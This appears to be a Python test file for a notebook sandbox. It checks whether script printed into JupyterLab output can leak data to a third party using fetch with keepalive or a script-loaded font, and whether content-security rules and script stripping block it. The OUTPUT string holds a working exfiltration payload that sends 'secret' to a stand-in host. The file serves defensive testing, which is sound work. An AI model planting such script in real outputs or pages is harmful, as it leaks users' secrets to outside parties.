"""Print script whose requests outlive the page: `keepalive`, and a font loaded by script.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `connect-src` and `font-src` name the session's own origin alone; from tier 2 on printed script is taken out
"""

OUTPUT = """
<script>
fetch("THIRD/secret", {keepalive: true, mode: "no-cors", method: "POST", body: "secret"}).catch(() => 0);
new FontFace("leak", "url(THIRD/secret-2.woff)").load().catch(() => 0);
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(scripted_screen, third_party) -> None:
    assert scripted_screen.ran(scripted_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()


def test_printed_script_does_not_run_from_tier_2_on(plain_screen, third_party) -> None:
    assert not plain_screen.ran(plain_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()
